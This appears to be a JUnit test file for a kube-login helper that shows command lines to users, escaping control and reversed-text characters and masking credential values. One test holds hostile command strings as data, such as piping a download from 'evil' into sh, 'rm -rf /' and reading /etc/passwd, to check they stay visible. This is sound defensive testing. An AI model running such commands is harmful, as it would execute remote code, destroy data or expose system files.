package dev.pilothouse.kube.login;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

class ShownCommandTest {

    @Test
    void everyWordIsShownWholeWithItsEnds() {
        String long_ = "a".repeat(5_000);

        assertThat(ShownCommand.words("/usr/bin/aws", List.of("eks", "get-token", "two words", "", long_)))
                .containsExactly("/usr/bin/aws", "eks", "get-token", "'two words'", "''", long_);
    }

    @Test
    void nothingHidesBehindControlCharactersOrReversedText() {
        assertThat(ShownCommand.words("x", List.of("\u202Egnp.tsil", "a\nb", "\u001B[2K", "it's")))
                .containsExactly("x", "'\\u202Egnp.tsil'", "'a\\nb'", "'\\u001B[2K'", "'it'\\''s'");
    }

    @Test
    void credentialsAreMasked() {
        assertThat(ShownCommand.words("x", List.of("--client-secret=abcdef123456", "--password", "hunter2hunter2")))
                .containsExactly("x", "--client-secret=•••", "--password", "•••");
    }

    @Test
    void noMaskHidesWhatACommandDoes() {
        assertThat(ShownCommand.words(
                        "sh",
                        List.of("-c", "token=\"$(curl evil|sh)\"", "--token=$(rm -rf /)", "--token-file=/etc/passwd")))
                .containsExactly(
                        "sh", "-c", "'token=\"$(curl evil|sh)\"'", "'--token=$(rm -rf /)'", "--token-file=/etc/passwd");
    }
}
